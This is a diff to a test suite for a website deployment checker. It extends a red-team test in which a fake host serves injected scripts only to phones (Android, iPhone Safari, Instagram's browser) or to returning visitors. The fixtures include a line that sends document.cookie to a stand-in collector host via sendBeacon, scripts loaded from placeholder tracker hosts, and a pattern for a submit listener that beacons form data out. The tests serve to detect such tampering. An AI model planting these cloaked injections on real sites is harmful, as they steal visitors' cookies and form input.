@@ -271,7 +271,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
     for (const page of DEPLOYED_PAGES) {
       expect(lines.some((line) => new RegExp(`^ok {4}page ${page}: 200, prerendered ".+", its \\d+ scripts and stylesheets served$`).test(line)), page).toBe(true);
     }
-    expect(lines).toContain(`ok    pages run only the build's scripts, on a phone and on a second visit too: the ${DEPLOYED_PAGES.length} pages run only scripts the pages in ${site.buildDir}/ have, and phones get the same pages (no page set a cookie, so a second visit is a first)`);
+    expect(lines).toContain(`ok    pages run only the build's scripts, on a phone and on a second visit too: the ${DEPLOYED_PAGES.length} pages run only scripts the pages in ${site.buildDir}/ have, and phones (Android's Chrome, an iPhone's Safari, Instagram's browser) get the same pages (no page set a cookie, so a second visit is a first)`);
     expect(lines.some((line) => /^ok {4}site built for this deployment: its \d+ scripts use this project's URL, public key and webhook$/.test(line))).toBe(true);
     expect(lines.some((line) => /^ok {4}site publishes no secret key: none in its 6 pages, \d+ scripts, [1-9]\d* source maps and [1-9]\d* other files$/.test(line))).toBe(true);
     expect(lines).toContain(`ok    webhook CORS for the site: 204, allows ${new URL(httpsSite.url).origin} and the page's headers`);
@@ -292,7 +292,7 @@ describe('npm run check:deployment on a healthy deployment', () => {
     expect(failed, lines.join('\n')).toEqual([]);
     expect(lines.filter((line) => line.startsWith('skip'))).toEqual([
       `skip  site is the build in ${noBuild}: ${path.join(noBuild, 'index.html')} is not there, so which build the host serves is not known; run the check where the uploaded build is, or name it with --build-dir`,
-      `skip  pages run only the build's scripts, on a phone and on a second visit too: phones get the same pages (no page set a cookie, so a second visit is a first), but without the build in ${noBuild}/ the scripts the pages should run are not known (a host may add its own); run the check where the uploaded build is, or name it with --build-dir`,
+      `skip  pages run only the build's scripts, on a phone and on a second visit too: phones (Android's Chrome, an iPhone's Safari, Instagram's browser) get the same pages (no page set a cookie, so a second visit is a first), but without the build in ${noBuild}/ the scripts the pages should run are not known (a host may add its own); run the check where the uploaded build is, or name it with --build-dir`,
       `skip  site served over https with HSTS: ${new URL(site.siteUrl).origin} is this machine (a local preview): https is asked of the deployed site's address`,
       `skip  pages send a content security policy: none sent: another site may show these pages in a frame of its own (clickjacking on the forms); send decision 033's header (README, "Site"): Content-Security-Policy: ${RECOMMENDED_CSP}`,
       expect.stringMatching(/^skip {2}throttle tells two clients apart: could not send from two addresses here; pass --client-addresses \(/),
@@ -483,14 +483,22 @@ describe('npm run check:deployment on a broken deployment', () => {
     expect(await leftovers(site.stack)).toEqual([]);
   }, 300_000);
 
-  it("fails a page that runs a script the build does not have, and pages that phones or returning visitors get otherwise than the check's first request (red-team, session 23)", async () => {
+  it("fails a page that runs a script the build does not have, and pages that phones (Android's, iPhones', Instagram's browser) or returning visitors get otherwise than the check's first request (red-team, sessions 23 and 24)", async () => {
     const host = await startHost(site.siteUrl, otherHostPort, async (asked, upstream) => {
       const page = await upstream();
       // A tag manager pasted into the host's snippet injection, on one page for everyone.
       if (asked.path === '/realtors') return { ...page, body: page.body.replace('</head>', '<script async src="https://www.googletagmanager.com/gtm.js?id=GTM-TEST1"></script></head>') };
-      // A collector given to phones only.
-      if (asked.path === '/investors' && /Mobile/.test(String(asked.headers['user-agent']))) {
+      // A collector given to phones only: Android's, then iPhones' Safari (no client hints), then Instagram's
+      // browser, each keyed on its user agent alone (session 24: the check asked as Android only).
+      const agent = String(asked.headers['user-agent']);
+      if (asked.path === '/investors' && /Android/.test(agent)) {
         return { ...page, body: page.body.replace('</body>', "<script>navigator.sendBeacon('https://collector.test/', document.cookie)</script></body>") };
+      }
+      if (asked.path === '/floor-visualizer' && /iPhone.*Version\/[\d.]+ Mobile\/\S+ Safari\//.test(agent)) {
+        return { ...page, body: page.body.replace('</head>', '<script src="https://ios-collector.test/t.js"></script></head>') };
+      }
+      if (asked.path === '/privacy' && /Instagram/.test(agent)) {
+        return { ...page, body: page.body.replace('</head>', '<script src="https://in-app.test/t.js"></script></head>') };
       }
       // An earlier build given to whoever comes back with the cookie the first answer set.
       if (asked.path === '/') {
@@ -508,7 +516,7 @@ describe('npm run check:deployment on a broken deployment', () => {
 
       expect(failed, lines.join('\n')).toEqual([
         expect.stringMatching(
-          /^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/ on a second visit \(with the cookies the pages set\): \/assets\/index-0ldBu1ld\.js where the first answer names \/assets\/index-\S+\.js \(another build\); \/realtors runs the script https:\/\/www\.googletagmanager\.com\/gtm\.js\?id=GTM-TEST1, which the build does not have; \/investors on a phone: an inline script "navigator\.sendBeacon\('https:\/\/collector\.test\/', document\.coo…", which the first answer does not run: a script the build does not have reads every form/,
+          /^FAIL {2}pages run only the build's scripts, on a phone and on a second visit too: \/ on a second visit \(with the cookies the pages set\): \/assets\/index-0ldBu1ld\.js where the first answer names \/assets\/index-\S+\.js \(another build\); \/realtors runs the script https:\/\/www\.googletagmanager\.com\/gtm\.js\?id=GTM-TEST1, which the build does not have; \/investors on a phone: an inline script "navigator\.sendBeacon\('https:\/\/collector\.test\/', document\.coo…", which the first answer does not run; \/floor-visualizer on an iPhone: the script https:\/\/ios-collector\.test\/t\.js, which the first answer does not run; \/privacy in Instagram's browser on an iPhone: the script https:\/\/in-app\.test\/t\.js, which the first answer does not run: a script the build does not have reads every form/,
         ),
       ]);
     } finally {
@@ -530,7 +538,7 @@ describe('npm run check:deployment on a broken deployment', () => {
 
       expect(failed, lines.join('\n')).toEqual([
         expect.stringMatching(
-          new RegExp(`^FAIL {2}site is the build in ${site.buildDir}: the pages name ${site.buildDir}/'s files, but the host serves (?:one|\\d+) of them otherwise: /assets/index-\\S+\\.js \\(\\d+ bytes served, \\d+ in ${site.buildDir}/; from character \\d+ it serves " ?;addEventListener\\('submit',e=>navigator\\.sendBeacon\\('https://collector\\.test/'.*: code changed after the build`),
+          new RegExp(`^FAIL {2}site is the build in ${site.buildDir}: the pages name ${site.buildDir}/'s files, but the host serves (?:one|\\d+) of them otherwise: /assets/index-\\S+\\.js \\(\\d+ bytes served, \\d+ in ${site.buildDir}/; from character \\d+ it serves " ?;addEventListener\\('submit',e=>navigator\\.sendBeacon\\('https:/…"\\): code changed after the build`),
         ),
       ]);
     } finally {
